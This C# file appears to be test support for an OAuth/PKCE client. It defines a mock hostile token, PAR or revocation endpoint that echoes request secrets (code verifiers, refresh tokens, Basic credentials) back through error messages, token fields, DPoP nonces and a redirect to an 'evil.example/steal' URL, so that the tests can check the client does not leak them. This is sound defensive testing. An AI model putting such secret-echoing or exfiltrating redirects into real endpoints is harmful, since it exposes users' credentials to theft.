using System.Text.Json;
using Microsoft.AspNetCore.Http;

namespace Pkce.Integration.NoSecret;

/// <summary>
/// The ways a hostile token, PAR or revocation endpoint answers: each one echoes everything the request carried
/// (form values and the Authorization header) in a place the client reads (an error description, an error page, a
/// Location, a token type, a lifetime, a DPoP nonce), so any of it the client passes on shows up where it must not.
/// </summary>
internal static class HostileEndpoint
{
    /// <summary>What a request carried: every field and header as one line, and each field (and the Basic credentials) alone.</summary>
    public sealed record Echo(string Line, IReadOnlyDictionary<string, string> Fields);

    /// <summary>Every answer, each with what it is called in a test's messages.</summary>
    public static readonly (string Name, Func<Echo, Func<HttpContext, Task>> Answer)[] Answers =
    [
        .. Quoting([
        ("an OAuth error describing the request", echo => Json(400, new { error = "invalid_grant", error_description = echo, error_uri = "https://as.example/e?" + Uri.EscapeDataString(echo) })),
        ("invalid_client on 401", echo => Json(401, new { error = "invalid_client", error_description = echo })),
        ("an error object on 200", echo => Json(200, new { error = "server_error", error_description = echo })),
        ("an HTML error page quoting the request", echo => Text(500, "text/html", $"<html><body><pre>{echo}</pre></body></html>")),
        ("a redirect carrying the request", echo => async context =>
        {
            context.Response.StatusCode = StatusCodes.Status307TemporaryRedirect;
            context.Response.Headers.Location = "https://evil.example/steal?" + Uri.EscapeDataString(echo);
            await Task.CompletedTask;
        }),
        ("a token whose type is the request", echo => Json(200, new { access_token = "at", token_type = echo })),
        ("a token whose lifetime is the request", echo => Json(200, new { access_token = "at", token_type = "Bearer", expires_in = echo })),
        ("a token without access_token and the request beside it", echo => Json(200, new { token_type = "Bearer", note = echo })),
        ("a pushed request without request_uri", echo => Json(201, new { expires_in = 60, note = echo })),
        ("use_dpop_nonce with the request as the nonce", echo => async context =>
        {
            context.Response.Headers["DPoP-Nonce"] = echo.Replace(' ', '_');
            await Json(400, new { error = "use_dpop_nonce", error_description = echo })(context);
        }),
        ("a bearer token to a DPoP request", echo => Json(200, new { access_token = "at-" + echo.Length, token_type = "Bearer" })),
        ]),
        // An error page is kept as an excerpt of its first characters: one that is cut in the middle of a secret.
        .. new[] { "code", "code_verifier", "refresh_token", "token", "client_secret", "basic" }.Select(field =>
            ($"an HTML error page cut inside the {field}", (Func<Echo, Func<HttpContext, Task>>)(echo =>
                Text(500, "text/html", "<pre>" + new string('x', ServerText.MaxLength - 35) + echo.Fields.GetValueOrDefault(field, "") + "</pre>")))),
    ];

    private static IEnumerable<(string, Func<Echo, Func<HttpContext, Task>>)> Quoting(IEnumerable<(string Name, Func<string, Func<HttpContext, Task>> Answer)> answers) =>
        answers.Select(a => (a.Name, (Func<Echo, Func<HttpContext, Task>>)(echo => a.Answer(echo.Line))));

    /// <summary>Everything the request carried.</summary>
    public static async Task<Echo> EchoOf(HttpContext context)
    {
        var form = context.Request.HasFormContentType ? await context.Request.ReadFormAsync() : null;
        var fields = form?.ToDictionary(f => f.Key, f => f.Value.ToString()) ?? new Dictionary<string, string>();
        var authorization = context.Request.Headers.Authorization.ToString();
        if (authorization.StartsWith("Basic ", StringComparison.Ordinal)) fields["basic"] = authorization["Basic ".Length..];
        var line = string.Join(" ", fields.Select(f => $"{f.Key}={f.Value}"));
        return new Echo($"{line} authorization={authorization} dpop={context.Request.Headers["DPoP"]}", fields);
    }

    /// <summary>Answers every request with <paramref name="answer"/> applied to what the request carried.</summary>
    public static Func<HttpContext, Task> Respond(Func<Echo, Func<HttpContext, Task>> answer) =>
        async context => await answer(await EchoOf(context))(context);

    private static Func<HttpContext, Task> Json(int status, object body) => async context =>
    {
        context.Response.StatusCode = status;
        context.Response.ContentType = "application/json";
        await context.Response.WriteAsync(JsonSerializer.Serialize(body));
    };

    private static Func<HttpContext, Task> Text(int status, string type, string body) => async context =>
    {
        context.Response.StatusCode = status;
        context.Response.ContentType = type;
        await context.Response.WriteAsync(body);
    };
}
